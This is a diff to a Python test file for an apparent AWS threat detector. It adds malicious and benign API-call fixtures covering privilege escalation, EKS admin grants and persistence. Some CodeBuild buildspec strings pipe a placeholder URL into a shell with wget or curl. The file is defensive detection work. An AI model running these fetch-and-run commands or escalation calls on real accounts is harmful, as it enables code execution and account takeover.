@@ -56,8 +56,14 @@ KEY_GONE, LOCKOUT = "impact/encryption_key_taken_away", "impact/key_lockout_forc
 FOREIGN_KEY, UNPROTECTED = "impact/objects_encrypted_with_a_strangers_key", "impact/object_protection_lifted"
 BACKUPS, NOTE = "impact/backups_destroyed", "impact/ransom_note_left"
 BAR, CLUSTER = "exfiltration/public_sharing_block_lifted", "privilege_escalation/let_into_kubernetes_cluster"
+PASSED, ROOT_KEY = "privilege_escalation/powerful_role_passed", "persistence/root_key_made"
+OF_CLUSTER, SWITCHED = "privilege_escalation/made_admin_of_cluster", "privilege_escalation/policy_version_switched"
+FETCHES = "execution/build_fetches_and_runs"
+CERTIFICATES, MACHINE = "persistence/certificates_given_roles", "persistence/stranger_host_may_register"
 
 STRANGERS_KEY = f"arn:aws:kms:eu-central-1:{STRANGER}:key/k"
+ADMINISTRATOR = f"arn:aws:iam::{OURS}:role/account-admin"
+CLUSTER_POLICY = "arn:aws:eks::aws:cluster-access-policy/"
 EVERYBODY = {"items": [{"cidrIp": "0.0.0.0/0"}]}
 MALLORY = {"type": "IAMUser", "arn": f"arn:aws:iam::{OURS}:user/mallory", "accountId": OURS, "userName": "mallory"}
 
@@ -215,10 +221,60 @@ EVIL: list[tuple[str, str, str, Any]] = [
     ),
     (RARE, "glue", "UpdateDevEndpoint", {"endpointName": "e", "publicKey": "k"}),
     (RARE, "bedrock-agentcore", "CreateCodeInterpreter", {"executionRoleArn": "x"}),
+    (RARE, "bedrock-agentcore", "CreateAgentRuntime", {"roleArn": "x"}),
+    (RARE, "gamelift", "CreateFleet", {"instanceRoleArn": "x"}),
+    (RARE, "gamelift", "CreateBuild", {"storageLocation": {"bucket": "b", "roleArn": "x"}}),
+    (RARE, "kinesisanalytics", "CreateApplication", {"serviceExecutionRole": "x"}),
+    (RARE, "airflow", "CreateEnvironment", {"Name": "e", "ExecutionRoleArn": "x"}),
+    (RARE, "imagebuilder", "CreateInfrastructureConfiguration", {"instanceProfileName": "x"}),
+    (RARE, "amplify", "CreateApp", {"iamServiceRoleArn": "x"}),
+    (PASSED, "ssm", "StartAutomationExecution", {"parameters": {"AutomationAssumeRole": [ADMINISTRATOR]}}),
+    (PASSED, "pipes", "CreatePipe", {"roleArn": ADMINISTRATOR}),
+    (PASSED, "codepipeline", "CreatePipeline", {"pipeline": {"roleArn": ADMINISTRATOR}}),
+    (PASSED, "imagebuilder", "CreateInfrastructureConfiguration", {"instanceProfileName": "account-admin"}),
+    (PASSED, "bedrock", "CreateAgent", {"agentResourceRoleArn": ADMINISTRATOR}),
+    (PASSED, "bedrock-agentcore", "UpdateAgentRuntime", {"roleArn": ADMINISTRATOR}),
+    (PASSED, "gamelift", "CreateFleet", {"instanceRoleArn": ADMINISTRATOR}),
+    (PASSED, "kinesisanalytics", "UpdateApplication", {"serviceExecutionRoleUpdate": ADMINISTRATOR}),
+    (PASSED, "amplify", "UpdateApp", {"iamServiceRoleArn": ADMINISTRATOR}),
+    (PASSED, "omics", "StartRun", {"roleArn": ADMINISTRATOR}),
+    (PASSED, "emr-serverless", "StartJobRun", {"executionRoleArn": ADMINISTRATOR}),
+    (PASSED, "eks", "CreatePodIdentityAssociation", {"roleArn": ADMINISTRATOR}),
+    (PASSED, "airflow", "UpdateEnvironment", {"ExecutionRoleArn": ADMINISTRATOR}),
+    (PASSED, "iot", "CreateRoleAlias", {"roleArn": ADMINISTRATOR}),
+    (PASSED, "glue", "CreateSession", {"role": ADMINISTRATOR}),
+    (PASSED, "apprunner", "CreateService", {"instanceConfiguration": {"instanceRoleArn": ADMINISTRATOR}}),
+    (FETCHES, "codebuild", "StartBuild", {"projectName": "p", "buildspecOverride": "build: wget -qO- https://e | sh"}),
+    (
+        FETCHES,
+        "codebuild",
+        "UpdateProject",
+        {"source": {"type": "NO_SOURCE", "buildspec": "bash <(curl -s https://e)"}},
+    ),
+    (
+        FETCHES,
+        "codebuild",
+        "CreateProject",
+        {"source": {"type": "NO_SOURCE", "buildspec": "- curl -o m https://e/m\n- chmod +x m\n- ./m"}},
+    ),
+    (SWITCHED, "iam", "SetDefaultPolicyVersion", {"policyArn": "x", "versionId": "v1"}),
     (ORDERS, "codebuild", "StartBuild", {"projectName": "p", "buildspecOverride": "x"}),
     (ORDERS, "ecs", "RunTask", {"overrides": {"taskRoleArn": "x"}}),
     (AS_ROOT, "sts", "AssumeRoot", {"targetPrincipal": OURS}),
-    (CLUSTER, "eks", "CreateAccessEntry", {"principalArn": "x", "kubernetesGroups": ["system:masters"]}),
+    (CLUSTER, "eks", "CreateAccessEntry", {"principalArn": "x", "kubernetesGroups": ["developers"]}),
+    (
+        CLUSTER,
+        "eks",
+        "AssociateAccessPolicy",
+        {"principalArn": "x", "policyArn": f"{CLUSTER_POLICY}AmazonEKSEditPolicy"},
+    ),
+    (OF_CLUSTER, "eks", "CreateAccessEntry", {"principalArn": "x", "kubernetesGroups": ["system:masters"]}),
+    (
+        OF_CLUSTER,
+        "eks",
+        "AssociateAccessPolicy",
+        {"principalArn": "x", "policyArn": f"{CLUSTER_POLICY}AmazonEKSClusterAdminPolicy"},
+    ),
     (PUBLIC_DB, "rds", "ModifyDBInstance", {"dBInstanceIdentifier": "d", "publiclyAccessible": True}),
     (PUBLIC_DB, "redshift", "ModifyCluster", {"clusterIdentifier": "c", "publiclyAccessible": True}),
     (BLOCKS, "ebs", "ListSnapshotBlocks", {"snapshotId": "snap-1"}),
@@ -315,6 +371,13 @@ HONEST: list[tuple[str, str, Any, Any]] = [
     ("ecs", "RunTask", {"overrides": {"containerOverrides": [{"name": "c", "command": ["x"]}]}}, MALLORY),
     ("rds", "ModifyDBInstance", {"dBInstanceIdentifier": "d", "dBInstanceClass": "db.m7g.large"}, MALLORY),
     ("eks", "CreateAccessEntry", {"principalArn": "x", "type": "EC2_LINUX"}, MALLORY),
+    ("eks", "CreateAccessEntry", {"principalArn": "x"}, MALLORY),
+    ("eks", "AssociateAccessPolicy", {"policyArn": f"{CLUSTER_POLICY}AmazonEKSViewPolicy"}, MALLORY),
+    ("eks", "AssociateAccessPolicy", {"policyArn": f"{CLUSTER_POLICY}AmazonEKSAdminViewPolicy"}, MALLORY),
+    ("airflow", "CreateEnvironment", {"ExecutionRoleArn": "x"}, role("ci-deploy")),
+    ("codebuild", "StartBuild", {"projectName": "p", "buildspecOverride": "curl -O https://e/x | tee log"}, role("ci")),
+    ("sso-directory", "UpdatePassword", {"userId": "u", "passwordMode": "EMAIL"}, MALLORY),
+    ("rolesanywhere", "UpdateProfile", {"profileId": "p"}, role("ci-deploy")),
     ("ec2", "ModifyInstanceAttribute", {"instanceId": "i-1", "instanceType": {"value": "m7i.large"}}, MALLORY),
 ]
 
@@ -322,6 +385,25 @@ HONEST: list[tuple[str, str, Any, Any]] = [
 @pytest.mark.parametrize(("source", "name", "request_", "identity"), HONEST)
 def test_the_honest_call_beside_it_is_quiet(source: str, name: str, request_: Any, identity: Any) -> None:
     assert hunted(source, name, request_, estate.read(DECLARED, "test"), identity) == set()
+
+
+@pytest.mark.parametrize(
+    ("detection", "source", "name", "request_"),
+    [
+        (CERTIFICATES, "rolesanywhere", "CreateProfile", {"roleArns": [ADMINISTRATOR]}),
+        (CERTIFICATES, "rolesanywhere", "DeleteCrl", {"crlId": "x"}),
+        (MACHINE, "ssm", "CreateActivation", {"iamRole": "fleet"}),
+    ],
+)
+def test_a_door_that_lasts_is_told_of_a_pipeline_too(detection: str, source: str, name: str, request_: Any) -> None:
+    assert detection in hunted(source, name, request_, Estate(), role("github-deploy"))
+
+
+def test_a_key_that_root_makes_for_itself_is_no_key_for_another() -> None:
+    root = {"type": "Root", "arn": f"arn:aws:iam::{OURS}:root", "accountId": OURS, "accessKeyId": "ASIAEXAMPLE"}
+    found = hunted("iam", "CreateAccessKey", None, Estate(), root)
+    assert ROOT_KEY in found
+    assert LOGIN not in found
 
 
 def test_weights_in_a_directory_bucket_are_weights() -> None:
